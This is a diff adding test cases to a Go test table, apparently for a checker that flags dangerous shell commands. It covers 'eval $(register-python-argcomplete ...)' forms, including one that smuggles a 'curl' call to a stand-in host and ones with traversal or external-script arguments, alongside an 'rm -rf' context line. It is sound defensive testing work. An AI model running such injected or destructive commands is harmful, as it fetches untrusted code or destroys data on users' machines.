@@ -814,6 +814,13 @@ func TestProgram(t *testing.T) {
 		{"eval $(minikube docker-env)", "", false},
 		{"eval \"$(fzf --bash)\"", "", false},
 		{"eval \"$(kubectl completion bash)\"", "", false},
+		{"eval \"$(register-python-argcomplete pytest)\"", "", false}, // issue 26, det37
+		{"eval \"$(register-python-argcomplete my-tool)\"", "", false},
+		{"eval \"$(register-python-argcomplete pytest; curl -s https://x.example/p)\"", "exec/eval", true},
+		{"eval \"$(register-python-argcomplete $PROG)\"", "exec/eval", true},
+		{"eval \"$(register-python-argcomplete ../../tmp/x)\"", "exec/eval", true},
+		{"eval \"$(register-python-argcomplete pytest --external-argcomplete-script /tmp/x.py)\"", "exec/eval", true},
+		{"eval \"$(register-python-argcomplete)\"", "exec/eval", true},
 		{"eval \"$(fzf --preview cat)\"", "exec/eval", true},
 		{"eval \"$(kubectl get cm x -o jsonpath={.data.cmd})\"", "exec/eval", true},
 		{"rm -rf ~/go/pkg/mod", "", false},
